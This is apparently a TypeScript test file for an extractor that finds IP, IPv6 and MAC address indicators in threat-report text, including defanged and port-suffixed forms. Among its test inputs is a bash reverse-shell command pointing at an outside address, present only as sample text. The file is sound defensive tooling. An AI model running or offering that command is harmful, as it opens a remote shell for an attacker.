import { expect, test } from "vitest";

import { shortest } from "./addresses.ts";
import { findIndicators } from "./find-indicators.ts";

const found = (text: string): string[] =>
  findIndicators(text, [], { ownHosts: new Set(), benign: null }).map(
    ({ type, value }) => `${type} ${value}`,
  );

test.each([
  ["traffic to 185.220.101.45 was seen", ["ipv4 185.220.101.45"]],
  ["185[.]220[.]101[.]45", ["ipv4 185.220.101.45"]],
  ["185.220.101[.]45", ["ipv4 185.220.101.45"]],
  ["185(.)220(.)101(.)45", ["ipv4 185.220.101.45"]],
  ["185{.}220{.}101{.}45", ["ipv4 185.220.101.45"]],
  ["185[dot]220[dot]101[dot]45", ["ipv4 185.220.101.45"]],
  ["185(dot)220(dot)101(dot)45", ["ipv4 185.220.101.45"]],
  ["185 dot 220 dot 101 dot 45", ["ipv4 185.220.101.45"]],
  ["185[.220[.101[.45", ["ipv4 185.220.101.45"]],
  ["185.]220.]101.]45", ["ipv4 185.220.101.45"]],
  ["185\\.220\\.101\\.45", ["ipv4 185.220.101.45"]],
  ["185 [.] 220 [.] 101 [.] 45", ["ipv4 185.220.101.45"]],
  ["185.220.101[.45]", ["ipv4 185.220.101.45"]],
  ["(185.220.101.45)", ["ipv4 185.220.101.45"]],
  ["from 185.220.101.45.", ["ipv4 185.220.101.45"]],
  ["from 185.220.101.45, 185.220.101.46 and others", ["ipv4 185.220.101.45", "ipv4 185.220.101.46"]],
  ['"185.220.101.45"', ["ipv4 185.220.101.45"]],
  ["IP:185.220.101.45", ["ipv4 185.220.101.45"]],
  ["ip=185.220.101.45&x", ["ipv4 185.220.101.45"]],
  ["185.220.101.45:8080", ["ipv4 185.220.101.45"]],
  ["185[.]220[.]101[.]45[:]8080", ["ipv4 185.220.101.45"]],
  ["range 185.220.101.0/24 blocked", ["ipv4 185.220.101.0/24"]],
  ["185.220.101[.]0/24", ["ipv4 185.220.101.0/24"]],
  ["185.220.101.1-185.220.101.9", ["ipv4 185.220.101.1", "ipv4 185.220.101.9"]],
  ["45.131.66.7/45.131.66.8 were both offline", ["ipv4 45.131.66.7", "ipv4 45.131.66.8"]],
  ["bash -i >& /dev/tcp/185.220.101.45/4444 0>&1", ["ipv4 185.220.101.45"]],
  ["| 185.220.101.45 | C2 |", ["ipv4 185.220.101.45"]],
  ["185.220.101.256", []],
  ["185.220.101.045", []],
  ["185.220.101", []],
  ["1.3.6.1.4.1.311", []],
  ["OID 1.3.6.1 stands for", []],
  ["Chrome/120.0.6099.109", []],
  ["Firefox/4.0.1.2", []],
  ["version 1.3.0.0 of the tool", []],
  ["versions 1.3.0.0, 1.4.0.0 and 1.4.1.0", []],
  ["v1.2.3.4", []],
  ["v. 5.6.7.8 fixes it", []],
  ["build 10.2.3.4", []],
  ["Quasar 1.3.0.0", []],
  ["AnyDesk 7.0.14.0 was installed", []],
  ["fixed in 9.1.2.3", []],
  ["9.1.2.3 and earlier are affected", []],
  ["4.1.2.3 Access control\nNext", []],
  ["It replaces 6.4.1.0 since May.", []],
  ["update to 6.0.0.0 first", []],
  ["FortiOS 7.0.1.12 is affected", []],
  ["release 12.1.2.3", []],
  ["server 5.188.86.10 answered", ["ipv4 5.188.86.10"]],
  ["connects to 5.8.18.7 every hour", ["ipv4 5.8.18.7"]],
])("IPv4 in %j", (text, expected) => {
  expect(found(text)).toEqual(expected);
});

test.each([
  ["2a02:4780:b:1234::1", ["ipv6 2a02:4780:b:1234::1"]],
  ["2A02:4780:000B:1234:0:0:0:1", ["ipv6 2a02:4780:b:1234::1"]],
  ["2a02[:]4780[:]b[:]1234[:][:]1", ["ipv6 2a02:4780:b:1234::1"]],
  ["[2a02:4780::1]:443", ["ipv6 2a02:4780::1"]],
  ["fe80::1%eth0", ["ipv6 fe80::1"]],
  ["2a02:4780::/32 is blocked", ["ipv6 2a02:4780::/32"]],
  ["::1 is the machine itself", ["ipv6 ::1"]],
  ["::ffff:185.220.101.45", ["ipv6 ::ffff:b9dc:652d"]],
  ["at 10:20:30 the process", []],
  ["std::vector<int>", []],
  ["foo::bar::baz", []],
  ["ad::be", []],
  ["2024-01-02T10:20:30", []],
  ["a::b", []],
  ["00:1A:2b:3C:4d:5E", ["mac 00:1a:2b:3c:4d:5e"]],
  ["00-1A-2B-3C-4D-5E", ["mac 00:1a:2b:3c:4d:5e"]],
  ["001a.2b3c.4d5e", ["mac 00:1a:2b:3c:4d:5e"]],
  ["00:1A:2b:3C:4d:5E:66:77", []],
  ["10-20-30-40-50-60", []],
])("IPv6 and MAC in %j", (text, expected) => {
  expect(found(text)).toEqual(expected);
});

test.each([
  "2A02:0:0:1::",
  "::",
  "1:0:0:2:0:0:0:3",
  "0:0:0:0:0:0:0:1",
  "1:2:3:4:5:6:7:8",
  "1:0:2:0:3:0:4:0",
  "fe80::00ff:1",
])("%s is shortened as URLs shorten it", (address) => {
  expect(shortest(address)).toBe(new URL(`http://[${address}]`).hostname.slice(1, -1));
});

test("an address spans no port, and a network spans its prefix length", () => {
  const text = "C2 at 91[.]219.84[.]17:8443 and 91.219.85.0/24";
  const [address, network] = findIndicators(text, [], { ownHosts: new Set(), benign: null });
  expect(address).toMatchObject({
    matched: "91[.]219.84[.]17",
    details: { port: 8443 },
    role: "c2",
    status: "indicator",
  });
  expect(network).toMatchObject({ matched: "91.219.85.0/24", details: { cidr: 24 } });
});
